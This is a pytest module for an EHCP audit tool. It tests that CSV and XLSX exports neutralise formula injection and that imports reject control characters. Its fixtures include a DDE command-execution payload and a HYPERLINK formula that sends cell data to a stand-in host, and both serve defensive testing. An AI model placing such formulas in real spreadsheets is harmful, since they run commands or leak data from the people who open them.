"""No CSV or XLSX the project writes holds a live formula, and no control character gets into the
store or breaks an export (issue 16, item 2; docs/integrity.md)."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from ehcp_audit.cli.main import _register, cli
from ehcp_audit.domain.entry import Entry
from ehcp_audit.exports.safe_cells import FORMULA_STARTS, csv_cell
from ehcp_audit.exports.sen2 import write_sen2
from ehcp_audit.exports.tables import write_frame
from ehcp_audit.rules.sen2.census import sen2_return
from tests.contract_helpers import plan, row, write_csv
from tests.tracker_helpers import SMALL_HEADER, SMALL_MAPPING, mapping_file, write_csv_rows

_register()

LINK = '=HYPERLINK("http://example.invalid/?"&A2,"click")'
SCHOOL = "=cmd|' /C calc'!A0"
KEY = "a-pseudonym-key-for-tests-only"


def invoke(*args: str, code: int = 0) -> str:
    result = CliRunner().invoke(cli, list(args), env={"EHCP_AUDIT_PSEUDONYM_KEY": KEY})
    assert result.exit_code == code, result.output
    return result.stderr


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def assert_no_formula_csv(path: Path) -> None:
    for number, cells in enumerate(csv_cells(path)):
        for cell in cells:
            assert not cell.startswith(FORMULA_STARTS), f"{path.name} line {number + 1}: {cell!r}"


def xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for cells in sheet.iter_rows() for cell in cells]


def assert_no_formula_xlsx(path: Path) -> None:
    for cell in xlsx_cells(path):
        assert cell.data_type != "f", f"{path.name} {cell.coordinate}: {cell.value!r}"


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("safe")
    db = tmp / "s.sqlite"
    rows = [
        plan("LA-000123", "2023-01-16", dob="2012-05-10", school_name=SCHOOL),
        plan("-AB12", "2023-01-20", dob="2012-05-10"),
        row("-AB12", "plan_ceased", "2023-06-01", reason=LINK),
        row("LA-9", "=1+1", "2023-06-01", recorded_by="@SUM(A1)"),
    ]
    rejects = tmp / "rejects.csv"
    invoke(
        "--db", str(db), "import", "actions", str(write_csv(tmp / "log.csv", rows)),
        "--rejects", str(rejects), code=3,
    )  # fmt: skip
    return db


def test_a_cell_is_neutralised_only_when_it_is_text_a_spreadsheet_would_run() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{start}1") == f"'{start}1"
    for value in ("LA-000123", "2024-01-16", "123456", "n/a", "0.8500", "", "a=b", "'=x"):
        assert csv_cell(value) == value
    assert csv_cell(-3) == -3
    assert csv_cell(date(2024, 1, 16)) == date(2024, 1, 16)


def test_ordinary_csv_rows_are_byte_for_byte_what_they_were(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "child_id": ["LA-000123", "-AB12", "C/7_x"],
            "cycle": [1, -2, 3],
            "due_on": [date(2024, 1, 16), None, date(2025, 2, 28)],
            "school_urn": ["123456", "", None],
            "rate": ["0.8500", "", "1.0000"],
        }
    )
    out = tmp_path / "c.csv"
    write_frame(frame, out, "csv")
    plain = frame.to_csv(index=False, na_rep="", date_format="%Y-%m-%d", lineterminator="\n")
    old = plain.splitlines()
    new = out.read_text(encoding="utf-8").splitlines()
    assert new[0] == old[0] and new[1] == old[1] and new[3] == old[3]
    assert new[2] == "'-AB12,-2,,," and old[2] == "-AB12,-2,,,"


def test_every_csv_export_has_no_formula_and_ids_starting_with_minus_are_text(
    store: Path, tmp_path: Path
) -> None:
    db = ("--db", str(store))
    compliance = tmp_path / "compliance.csv"
    invoke(*db, "export", "compliance", "--as-of", "2024-06-01", "--out", str(compliance))
    by_child = {cells[0] for cells in csv_cells(compliance)[1:]}
    assert by_child == {"'-AB12", "LA-000123"}
    for name, args in {
        "pseudonymised.csv": ("compliance", "--as-of", "2024-06-01", "--pseudonymise"),
        "kpis.csv": ("kpis", "--period", "2024-01", "--as-of", "2024-06-01"),
        "sen2.csv": ("sen2", "--year", "2024"),
    }.items():
        invoke(*db, "export", *args, "--out", str(tmp_path / name))
    ceased = tmp_path / "sen2_ceased.csv"
    assert [c[3] for c in csv_cells(ceased)[1:]] == ["'" + LINK]
    invoke(*db, "report", "due-list", "--term", "spring", "--year", "2024",
           "--as-of", "2024-01-01", "--out", str(tmp_path))  # fmt: skip
    due = tmp_path / "due-list-2024-spring" / "due-list.csv"
    assert [c[1] for c in csv_cells(due)[1:]] == ["'" + SCHOOL]
    rejects = store.parent / "rejects.csv"
    assert csv_cells(rejects)[1][:2] == ["LA-9", "'=1+1"]
    written = [*tmp_path.glob("*.csv"), due, rejects]
    assert len(written) == 8
    for path in written:
        assert_no_formula_csv(path)


def test_every_xlsx_export_writes_such_text_as_a_string_cell(store: Path, tmp_path: Path) -> None:
    db = ("--db", str(store))
    compliance = tmp_path / "compliance.xlsx"
    invoke(*db, "export", "compliance", "--as-of", "2024-06-01", "--format", "xlsx",
           "--out", str(compliance))  # fmt: skip
    ids = {c.value for c in xlsx_cells(compliance) if c.column == 1 and c.row > 1}
    assert ids == {"-AB12", "LA-000123"}
    sen2 = tmp_path / "sen2.xlsx"
    invoke(*db, "export", "sen2", "--year", "2024", "--format", "xlsx", "--out", str(sen2))
    ceased = openpyxl.load_workbook(sen2)["ceased_plans"]
    assert ceased["D2"].value == LINK and ceased["D2"].data_type == "s"
    invoke(*db, "export", "kpis", "--period", "2024-01", "--as-of", "2024-06-01",
           "--format", "xlsx", "--out", str(tmp_path / "kpis.xlsx"))  # fmt: skip
    for path in tmp_path.glob("*.xlsx"):
        assert_no_formula_xlsx(path)


def test_tracker_rejects_carry_no_formula(tmp_path: Path) -> None:
    tracker = tmp_path / "t.csv"
    write_csv_rows(
        tracker,
        [SMALL_HEADER, ["=1+1", "10/05/2012", "123456", "16/01/2023", "", "", "", "", ""]],
    )
    rejects = tmp_path / "rejects.csv"
    invoke("--db", str(tmp_path / "s.sqlite"), "import", "tracker", str(tracker),
           "--mapping", str(mapping_file(tmp_path, SMALL_MAPPING)),
           "--rejects", str(rejects), code=3)  # fmt: skip
    assert csv_cells(rejects)[1][0] == "'=1+1"
    assert_no_formula_csv(rejects)


@pytest.mark.parametrize(
    ("column", "value"),
    [("reason", "l\nbreak"), ("reason", "a\tb"), ("recorded_by", "a\x01b"),
     ("school_name", "x\x7fy"), ("outcome", "a\x1bb")],
)  # fmt: skip
def test_a_control_character_rejects_the_row_naming_the_column(
    tmp_path: Path, column: str, value: str
) -> None:
    rows = [plan("LA-1", "2023-01-16"), plan("LA-2", "2023-01-16", **{column: value})]
    db = str(tmp_path / "s.sqlite")
    rejects = tmp_path / "rejects.csv"
    err = invoke("--db", db, "import", "actions", str(write_csv(tmp_path / "log.csv", rows)),
                 "--rejects", str(rejects), code=3)  # fmt: skip
    assert f"row 2: {column}: contains the control character U+{ord(value[1]):04X}" in err
    assert "1 imported" in err


def test_a_control_character_in_a_tracker_cell_is_rejected_with_the_cell(tmp_path: Path) -> None:
    tracker = tmp_path / "t.csv"
    header = ["Child ID", "DOB", "URN", "School", "EHCP issued"]
    write_csv_rows(tracker, [header, ["R1", "10/05/2012", "123456", "Oak\x02", "16/01/2023"]])
    columns = ("child_id", "date_of_birth", "school_urn", "school_name", "plan_issued")
    lines = [f'{column} = "{name}"' for column, name in zip(columns, header, strict=True)]
    mapping = mapping_file(tmp_path, "\n".join(["[columns]", *lines]))
    err = invoke("--db", str(tmp_path / "s.sqlite"), "import", "tracker", str(tracker),
                 "--mapping", str(mapping), code=3)  # fmt: skip
    assert "row 2 D2 (School): contains the control character U+0002" in err


def test_control_characters_already_in_a_store_cannot_break_an_xlsx_export(tmp_path: Path) -> None:
    entries = [
        Entry("-C1", "plan_issued", date(2023, 1, 16), {"date_of_birth": "2012-05-10"}, seq=1),
        Entry("-C1", "plan_ceased", date(2023, 6, 1), {"reason": "moved\x01away\x00=x"}, seq=2),
    ]
    out = tmp_path / "sen2.xlsx"
    write_sen2(sen2_return([("-C1", entries)], date(2024, 1, 18)), out, "xlsx")
    ceased = openpyxl.load_workbook(out)["ceased_plans"]
    assert (ceased["A2"].value, ceased["D2"].value) == ("-C1", "moved\ufffdaway\ufffd=x")
    frame = pd.DataFrame({"note": ["=1+1\x0b", "+44 20"], "n": [-1, 2]})
    write_frame(frame, tmp_path / "f.xlsx", "xlsx")
    cells = {c.coordinate: c for c in xlsx_cells(tmp_path / "f.xlsx")}
    assert (cells["A2"].value, cells["A2"].data_type) == ("=1+1\ufffd", "s")
    assert (cells["A3"].value, cells["B2"].value, cells["B2"].data_type) == ("+44 20", -1, "n")
